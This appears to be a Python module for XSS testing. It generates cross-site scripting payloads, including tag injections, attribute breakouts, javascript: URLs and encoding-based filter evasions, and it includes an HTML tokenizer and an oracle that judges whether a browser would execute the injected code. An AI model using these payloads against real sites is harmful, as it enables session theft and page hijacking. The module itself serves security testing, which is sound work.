"""Would a browser run it? Payloads for pages that show what somebody wrote, and a reading of the page as browsers do.

The reading follows the tokenisation rules of the HTML standard (html.spec.whatwg.org, section 13.2.5): what stands
escaped, in a quoted attribute, in a comment or in a text area is not markup. Used by oracles for cross-site scripting;
pages are hostile and nothing here raises on them.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from html import unescape
from urllib.parse import unquote

SPACE = "\t\n\f\r "
RAW = {"script", "style", "xmp", "iframe", "noembed", "noframes", "noscript"}
ESCAPABLE = {"textarea", "title"}
URLS = {
    ("a", "href"), ("a", "xlink:href"), ("area", "href"), ("form", "action"), ("button", "formaction"),
    ("input", "formaction"), ("iframe", "src"), ("frame", "src"), ("object", "data"), ("embed", "src"),
}  # fmt: skip
"""Where a ``javascript:`` URL runs, at once or at a click."""


def in_element(code: str) -> tuple[str, ...]:
    """What makes a script of its own where text between tags is not escaped, or only half."""
    image = f"<img src=x onerror={code}>"
    return (
        f"<script>{code}</script>",
        image,
        f"<svg/onload={code}>",
        f"<ScRiPt>{code}</sCrIpT>",
        f"<script >{code}</script\t>",
        f"<scr<script>ipt>{code}</scr</script>ipt>",
        f"<IMG SRC=x oNeRrOr={code}>",
        f"<details open ontoggle={code}>x</details>",
        f"<b onmouseover={code}>x</b>",
        f'<a href="javascript:{code}">x</a>',
        f'<iframe srcdoc="<img src=x onerror={code}>"></iframe>',
        f"</p></div></textarea></title></style></script>{image}",
        f"-->{image}",
        f"<<b>img src=x onerror={code}>",
        f"<i<b>mg src=x onerror={code}>",
        f"<img src=x onerror={code} ",
        image.replace("<", "&lt;").replace(">", "&gt;"),
        image.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        image.replace("<", "%3C").replace(">", "%3E").replace(" ", "%20").replace("=", "%3D"),
        image.replace("<", "\\u003c").replace(">", "\\u003e"),
    )


def in_attribute(code: str) -> tuple[str, ...]:
    """What leaves a quoted or unquoted attribute value and adds a handler, or leaves the tag."""
    starts = ("", "http://site.example/")
    ends = (
        f'" onmouseover="{code}',
        f"' onmouseover='{code}",
        f" onmouseover={code} x=",
        f'"><img src=x onerror={code}>',
        f"'><img src=x onerror={code}>",
        f"><img src=x onerror={code}>",
        f"&quot; onmouseover=&quot;{code}",
        f"&#39; onmouseover=&#39;{code}",
        f"%22 onmouseover=%22{code}",
        f"\t\"\tonmouseover='{code}'",
    )
    return tuple(start + end for end in ends for start in starts)


def in_url(code: str) -> tuple[str, ...]:
    """Addresses that run as a script when a link with them is followed."""
    return (
        f"javascript:{code}",
        f"JaVaScRiPt:{code}",
        f" javascript:{code}",
        f"\x01javascript:{code}",
        f"java\tscript:{code}",
        f"java\r\nscript:{code}",
        f"javascript://site.example/%0A{code}",
        f"javascript:{code}//http://site.example/",
        f"javascript:{code}//https://www.site.example/index.html",
        f"javajavascript:script:{code}",
        f"javascript&colon;{code}",
        f"&#106;avascript:{code}",
        f"javascript:/*http://site.example/*/{code}",
        f"javascript%3A{code}",
    )


def in_script(code: str) -> tuple[str, ...]:
    """What leaves a string of a script of the page's own, or the script."""
    leaves = ('";', "';", "`;", '");', "');", "\\';", '\\";')
    return (*(f"{leave}{code};//" for leave in leaves), f"</script><script>{code}</script>", f"${{{code}}}")


@dataclass
class Tag:
    """A start tag; ``inner`` is the raw text of an element whose content is not markup (script, textarea …)."""

    name: str
    attributes: dict[str, str] = field(default_factory=dict)
    inner: str = ""


def tokens(page: str) -> Iterator[Tag | str]:
    """The start tags and the texts of a page, in order; comments and end tags are left out."""
    at, end = 0, len(page)
    while at < end:
        opening = page.find("<", at)
        if opening < 0:
            yield unescape(page[at:])
            return
        if opening > at:
            yield unescape(page[at:opening])
        following = page[opening + 1 : opening + 2]
        if page.startswith("<!--", opening):
            closing = re.compile(r"--!?>|(?<=<!--)-?>").search(page, opening + 4)
            at = closing.end() if closing else end
        elif following in ("!", "?") or (following == "/" and not page[opening + 2 : opening + 3].isalpha()):
            closing = page.find(">", opening)
            at = end if closing < 0 else closing + 1
        elif following.isascii() and following.isalpha():
            tag, at = _tag(page, opening + 1)
            if tag is None:
                return
            if tag.name in RAW | ESCAPABLE:
                stop = re.compile(rf"</{re.escape(tag.name)}(?=[\s/>])", re.IGNORECASE).search(page, at)
                tag.inner = page[at : stop.start() if stop else end]
                at = stop.start() if stop else end
                if tag.name in ESCAPABLE:
                    tag.inner = unescape(tag.inner)
            elif tag.name == "plaintext":
                tag.inner, at = page[at:], end
            yield tag
        elif following == "/":
            _, at = _tag(page, opening + 2)
        else:
            yield "<"
            at = opening + 1


def _tag(page: str, at: int) -> tuple[Tag | None, int]:
    """A tag from its name on, and where it ends; None where the page ends first, for then it is no tag."""
    end = len(page)
    start = at
    while at < end and page[at] not in SPACE + "/>":
        at += 1
    tag = Tag(page[start:at].lower())
    while at < end:
        if page[at] in SPACE + "/":
            at += 1
        elif page[at] == ">":
            return tag, at + 1
        else:
            start = at
            at += 1  # a leading "=" belongs to the name
            while at < end and page[at] not in SPACE + "/>=":
                at += 1
            name, value = page[start:at].lower(), ""
            while at < end and page[at] in SPACE:
                at += 1
            if at < end and page[at] == "=":
                at += 1
                while at < end and page[at] in SPACE:
                    at += 1
                start = at
                if at < end and page[at] in "\"'":
                    at = page.find(page[at], start + 1)
                    if at < 0:
                        return None, end
                    value, at = page[start + 1 : at], at + 1
                else:
                    while at < end and page[at] not in SPACE + ">":
                        at += 1
                    value = page[start:at]
            tag.attributes.setdefault(name, unescape(value))
    return None, end


def shown(page: str) -> str:
    """The text that a reader sees: texts between tags and in text areas, not scripts and styles."""
    parts = (part if isinstance(part, str) else part.inner * (part.name == "textarea") for part in tokens(page))
    return "".join(parts)


def links(page: str) -> list[str]:
    """Where the page's links lead, as they are written."""
    return [part.attributes.get("href", "") for part in tokens(page) if isinstance(part, Tag) and part.name == "a"]


def runs(page: str, code: str, depth: int = 2) -> str | None:
    """Where a browser would run ``code``, in words; None where it would not.

    ``code`` counts only outside of the strings and comments of a script: a page may hand it to a script of its own as
    data.
    """
    for tag in tokens(page):
        if isinstance(tag, str):
            continue
        kind = tag.attributes.get("type", "").strip().lower()
        if tag.name == "script" and (kind in ("", "module") or "javascript" in kind or "ecmascript" in kind):
            if "src" in tag.attributes:
                if code in tag.attributes["src"]:
                    return f"a script is loaded from {tag.attributes['src'][:200]!r}"
            elif executed(tag.inner, code):
                return f"a script element holds it: <script>{tag.inner.strip()[:200]}"
        for name, value in tag.attributes.items():
            if name.startswith("on") and executed(value, code):
                return f"a handler of an element runs it: <{tag.name} {name}={value[:200]!r}>"
            if (tag.name, name) in URLS:
                address = re.sub("[\t\n\r]", "", value).lstrip("".join(map(chr, range(33))))
                if address[:11].lower() == "javascript:" and executed(unquote(address[11:]), code):
                    return f"an address runs it: <{tag.name} {name}={value[:200]!r}>"
            if tag.name == "iframe" and name == "srcdoc" and depth and (inner := runs(value, code, depth - 1)):
                return f"in a frame's page: {inner}"
    return None


def executed(script: str, code: str) -> bool:
    """Whether ``code`` stands in a script outside of strings, comments and regular expressions."""
    quote, at, before = "", 0, ""
    while at < len(script):
        one = script[at]
        if quote:
            if one == "\\":
                at += 2
                continue
            if one == quote:
                quote = ""
            elif one in "\n\r" and quote != "`":
                return False  # a syntax error: nothing of the script runs
            elif quote == "`" and script.startswith("${" + code, at):
                return True
        elif script.startswith(code, at):
            return True
        elif script.startswith("//", at) or script.startswith("<!--", at):
            ends = re.compile("[\n\r\u2028\u2029]").search(script, at)
            at = ends.start() if ends else len(script)
            continue
        elif script.startswith("/*", at):
            closing = script.find("*/", at + 2)
            at = len(script) if closing < 0 else closing + 2
            continue
        elif one == "/" and (not before or before in "(=,:[!&|?{};"):
            whole = re.compile(r"/(?:\\.|\[(?:\\.|[^\]\\\n])*\]|[^/\\\n\[])+/").match(script, at)
            at = whole.end() if whole else at + 1
            continue
        elif one in "\"'`":
            quote = one
        if one not in SPACE:
            before = one
        at += 1
    return False


def inline_scripts_are_off(policy: str) -> bool:
    """Whether a Content-Security-Policy keeps inline scripts, handlers and ``javascript:`` addresses from running."""
    rules = {words[0].lower(): words[1:] for part in policy.split(";") if (words := part.split())}
    sources = rules.get("script-src", rules.get("default-src"))
    return sources is not None and "'unsafe-inline'" not in [source.lower() for source in sources]
